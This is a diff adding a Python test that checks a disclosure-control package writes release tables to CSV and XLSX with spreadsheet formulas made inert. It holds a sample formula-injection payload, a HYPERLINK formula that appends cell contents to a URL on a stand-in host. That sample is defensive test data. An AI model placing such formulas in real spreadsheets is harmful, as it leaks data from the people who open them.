@@ -1,9 +1,13 @@
 """Text safety: spreadsheet formulas made inert, identifiers found in free text."""
 
+import csv as csv_module
+
 import numpy as np
+import openpyxl
 import pandas as pd
 import pytest
 
+from child_mdh.sdc import Manifest, audit_release, merge_manifests, write_release_table
 from child_mdh.sdc.text_safety import (
     IdentifierError,
     IdentifierFinding,
@@ -12,6 +16,7 @@ from child_mdh.sdc.text_safety import (
     is_formula,
     neutralise_formulas,
 )
+from sdc_tables import LA_SPEC, la_table
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Click for details")'
 
@@ -61,6 +66,37 @@ def test_only_text_cells_and_names_change_and_the_input_is_kept():
     assert list(out.columns)[-1] == "'=SUM(A1)"
     # the input is not changed
     assert df["label"].iloc[0].startswith("=") and "=SUM(A1)" in df.columns
+
+
+def test_release_table_text_is_written_inert_in_csv_and_xlsx(tmp_path):
+    release = tmp_path / "release"
+    m = Manifest(release, step="profiles")
+    df = la_table()
+    df["note"] = [HYPERLINK, "  +1+1", "-0.5", "ordinary note", "England"]
+    path = release / "profiles" / "cin.csv"
+    write_release_table(df, path, LA_SPEC, m, xlsx=True)
+    assert df["note"].iloc[0] == HYPERLINK  # the caller's table is not changed
+
+    csv = pd.read_csv(path, dtype={"note": "str", "la_code": "str"})
+    assert csv["note"].tolist()[:4] == ["'" + HYPERLINK, "'  +1+1", "-0.5", "ordinary note"]
+    with path.open(newline="") as f:
+        cells = [c for row in csv_module.reader(f) for c in row]
+    assert [c for c in cells if is_formula(c)] == []
+
+    book = openpyxl.load_workbook(path.with_suffix(".xlsx"))
+    sheet = book.active
+    header = [c.value for c in sheet[1]]
+    notes = [row[header.index("note")] for row in sheet.iter_rows(min_row=2)]
+    assert notes[0].value == "'" + HYPERLINK and notes[0].data_type == "s"
+    assert notes[1].value == "'  +1+1" and notes[1].data_type == "s"
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    # counts are still numbers, suppressed cells still empty
+    cin = [row[header.index("cin_n")].value for row in sheet.iter_rows(min_row=2)]
+    assert cin[0] == 25 and cin[1] is None
+
+    m.write_part(tmp_path / "part.json")
+    merge_manifests([tmp_path / "part.json"], release / "outputs.json")
+    assert audit_release(release) == []
 
 
 # --------------------------------------------------------------------------------------
